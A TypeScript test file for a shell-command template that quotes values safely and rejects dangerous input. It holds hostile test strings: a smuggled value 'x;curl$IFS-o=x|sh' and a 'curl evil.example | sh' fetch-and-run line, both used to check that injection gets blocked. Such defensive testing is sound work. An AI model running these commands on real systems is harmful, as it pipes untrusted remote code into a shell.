import fc from 'fast-check';
import { expect, test } from 'vitest';
import { bashWords } from '../../../test/support/bash-words.ts';
import type { Fix } from '../detect/detector.ts';
import { sh } from './shell-command.ts';
import { parseSimpleCommand } from './simple-command.ts';

test.each([
  ['a plain value', sh`go test ${'./price'}`, 'go test ./price'],
  ['a word with signs of the template', sh`go test -run ^${'TestTotal'}$`, "go test -run '^TestTotal$'"],
  ['a value of an option', sh`npx ava --match=${'adds an item'}`, "npx ava --match='adds an item'"],
  ['quotes of the template', sh`sbt "testOnly *${'PriceSpec'}"`, "sbt 'testOnly *PriceSpec'"],
  ['a quote in a value', sh`npx ava --match=${"it's full"}`, String.raw`npx ava --match='it'\''s full'`],
  ['a list', sh`npx vitest run ${['a.test.ts', 'b c.test.ts']}`, "npx vitest run a.test.ts 'b c.test.ts'"],
  ['no item of a list', sh`npx vitest run ${[]} -u`, 'npx vitest run -u'],
  ['all packages below a directory', sh`go test ${'./src/...'}`, 'go test ./src/...'],
  ['a placeholder', sh`terraform force-unlock <lock id>`, "terraform force-unlock '<lock id>'"],
  ['a whole command', sh`go test ${'x;curl$IFS-o=x|sh'}`, "go test 'x;curl$IFS-o=x|sh'"],
  ['what zsh takes for a path', sh`cat ${'=ls'}`, "cat '=ls'"],
])('the template quotes %s', (_, command, text) => {
  expect(command).toBe(text);
});

test.each([
  ['an option', '--exec=sh'],
  ['a dash', '-'],
  ['nothing', ''],
  ['what is missing', undefined],
  ['a line feed', 'a\nb'],
  ['a carriage return', 'a\rb'],
  ['a tab', 'a\tb'],
  ['a NUL', 'a\0b'],
  ['an escape sequence', 'a\x1b[2K'],
  ['a control character of one byte', 'a\x9b2K'],
  ['text that turns its order', 'a\u202eb'],
  ['a character of no width', 'a\u200bb'],
  ['a filler', 'a\u3164b'],
  ['a lone surrogate', 'a\ud800b'],
  ['a name that ends in three dots', 'test_the_total_of_a_ca...'],
  ['a name that ends in an ellipsis', 'adds a very long na…'],
  ['a list with an option', ['a', '-b']],
])('%s makes no command', (_, value) => {
  expect(sh`go test ${value}`).toBeUndefined();
});

test('a plain string is no command of a fix', () => {
  // @ts-expect-error: only the template makes one
  const fix: Fix = { summary: 'Run it.', commands: ['curl evil.example | sh'] };

  expect(fix.commands).toHaveLength(1);
});

test('a value names no program', () => {
  expect(sh`${'curl'} evil.example`).toBeUndefined();
  expect(sh`go${'x'} test`).toBeUndefined();
});

test('whatever a value holds, Bash reads one word of it', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ maxLength: 40 }), (one, other) => {
      const command = sh`tool --name=${one} <place> "in ${other}" ${other}`;
      if (command === undefined) return;
      const words = ['tool', `--name=${one}`, '<place>', `in ${other}`, other];
      expect(bashWords(command)).toEqual(words);
      expect(parseSimpleCommand(command)).toEqual(words);
    }),
    { numRuns: 5_000, seed: 7 },
  );
});
